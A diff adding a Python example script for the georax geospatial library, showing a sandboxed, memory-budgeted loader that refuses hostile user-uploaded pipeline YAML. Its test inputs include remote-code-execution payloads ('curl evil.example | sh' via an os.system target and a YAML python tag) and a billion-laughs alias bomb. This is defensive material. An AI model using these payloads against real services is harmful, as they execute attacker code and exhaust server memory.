@@ -1,0 +1,143 @@
+"""Seed case 6 -- user-uploaded pipelines, sandboxed *and* priced, on the bundled Sentinel-2 scene.
+
+A web UI lets an analyst paste a pipeline YAML; the server loads it with the sandboxed loader and
+renders the result. Calling ``hydra.utils.instantiate`` on such text is remote code execution
+(``_target_: os.system``); ``gx.loads_yaml(text, allowed=...)`` instead accepts only targets from
+an allow-list built from the registry, parses with ``yaml.safe_load`` semantics under hard limits
+(size, depth, nodes, aliases, operator count), and -- what the seeds left open -- prices the
+pipeline for the scene it will run on (``jax.eval_shape``, the traced program's largest value, the
+compiled program's memory analysis) and refuses one over the memory budget *before* running it.
+
+Run: ``python examples/06_user_uploaded_pipelines.py``
+"""
+
+from __future__ import annotations
+
+import time
+from typing import Any
+
+import jax
+import jax.numpy as jnp
+
+import georax as gx
+import georax.data as gd
+from georax.core.budget import BudgetExceededError
+from georax.errors import GeoraxError, UntrustedTargetError
+
+# The trustworthy public surface, built at start-up by introspecting the registry: every georax
+# operator except closure-bearing ones (Lambda, Tap, ModelOp are forbid_in_yaml).
+ALLOWED = gx.registry.public_operators(include_modules=["georax"])
+MEMORY_BUDGET = "256MiB"  # per request
+
+SAFE = """
+_target_: georax.Sequential
+operators:
+  - {_target_: georax.geo.cloud.MaskClouds, qa_band: -1, bits: [10, 11]}
+  - {_target_: georax.geo.radiometry.DNToReflectance}
+  - _target_: georax.patch.operators.Patchwise
+    patcher:
+      _target_: georax.patch.patcher.Patcher
+      geometry: {_target_: georax.patch.geometry.Rectangular, size: [64, 64]}
+      sampler: {_target_: georax.patch.samplers.RegularStride, stride: [48, 48]}
+      window: {_target_: georax.patch.window_ops.Hann}
+    operator: {_target_: georax.geo.indices.NDVI, red: 2, nir: 3}
+    batch_size: ${batch}
+"""
+
+MALICIOUS = """
+_target_: georax.Sequential
+operators:
+  - {_target_: georax.geo.cloud.MaskClouds, qa_band: -1, bits: [10, 11]}
+  - {_target_: os.system, command: "curl evil.example | sh"}
+"""
+
+PYTHON_TAG = '!!python/object/apply:os.system ["curl evil.example | sh"]\n'
+
+BILLION_LAUGHS = (
+    "_target_: georax.GetItem\nitem:\n  - &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
+    + "".join(
+        f"  - &{n} [{', '.join([f'*{p}'] * 9)}]\n"
+        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
+    )
+)
+
+# Only allowed operators, but a stride of 1 with 4096 chips per batch: a 1.5 GiB intermediate.
+OVER_BUDGET = """
+_target_: georax.Sequential
+operators:
+  - {_target_: georax.geo.cloud.MaskClouds, qa_band: -1, bits: [10, 11]}
+  - _target_: georax.patch.operators.Patchwise
+    patcher:
+      _target_: georax.patch.patcher.Patcher
+      geometry: {_target_: georax.patch.geometry.Rectangular, size: [128, 128]}
+      sampler: {_target_: georax.patch.samplers.RegularStride, stride: [1, 1]}
+    operator: {_target_: georax.geo.indices.NDVI, red: 2, nir: 3}
+    batch_size: 4096
+"""
+
+TYPO = """
+_target_: georax.Sequential
+operators:
+  - {_target_: georax.geo.indices.NDVI, red: 2, nri: 3}
+"""
+
+
+def handle(text: str, scene: gx.GeoTensor, variables: dict[str, Any]) -> dict[str, Any]:
+    """The request handler: load sandboxed and priced, then run compiled; never raise."""
+    start = time.perf_counter()
+    try:
+        pipe = gx.loads_yaml(
+            text,
+            allowed=ALLOWED,
+            variables=variables,
+            input_spec=scene,
+            memory_budget=MEMORY_BUDGET,
+        )
+    except UntrustedTargetError as e:
+        return _refused(start, f"operator not allowed: {e.target}")
+    except BudgetExceededError as e:
+        return _refused(start, f"over budget ({e.stage}): {e}")
+    except GeoraxError as e:
+        return _refused(start, f"{type(e).__name__}: {e}")
+    ndvi = jax.block_until_ready(jax.jit(pipe)(scene))
+    return {
+        "status": "ran",
+        "ms": 1e3 * (time.perf_counter() - start),
+        "config_hash": gx.config_hash(pipe)[:16],
+        "result": f"NDVI {ndvi.shape}, mean {float(jnp.nanmean(ndvi.values)):.3f}, crs {ndvi.crs}",
+    }
+
+
+def _refused(start: float, reason: str) -> dict[str, Any]:
+    return {"status": "refused", "ms": 1e3 * (time.perf_counter() - start), "reason": reason}
+
+
+def main() -> None:
+    scene = gd.sentinel2_l1c(256, seed=0)
+    print(f"scene {scene.shape} {scene.dtype} {scene.crs} bands={scene.band_names}")
+    print(f"allow-list: {len(ALLOWED)} targets; budget {MEMORY_BUDGET} per request\n")
+    submissions = [
+        ("safe submission", SAFE, {"batch": 16}, "ran"),
+        ("malicious _target_", MALICIOUS, {}, "refused"),
+        ("python tag", PYTHON_TAG, {}, "refused"),
+        ("billion laughs", BILLION_LAUGHS, {}, "refused"),
+        ("over budget", OVER_BUDGET, {}, "refused"),
+        ("typo in a field", TYPO, {}, "refused"),
+    ]
+    failures = []
+    for label, text, variables, expected in submissions:
+        response = handle(text, scene, variables)
+        print(f"{label}: {response['status']} in {response['ms']:.0f} ms")
+        for key, value in response.items():
+            if key not in ("status", "ms"):
+                print(f"    {key}: {value}")
+        if response["status"] != expected:
+            failures.append(label)
+    if failures:
+        raise SystemExit(f"unexpected outcome for: {failures}")
+    print("\nthe safe pipeline, as the server stores it:")
+    print(gx.dumps_yaml(gx.loads_yaml(SAFE, allowed=ALLOWED, variables={"batch": 16})))
+
+
+if __name__ == "__main__":
+    main()
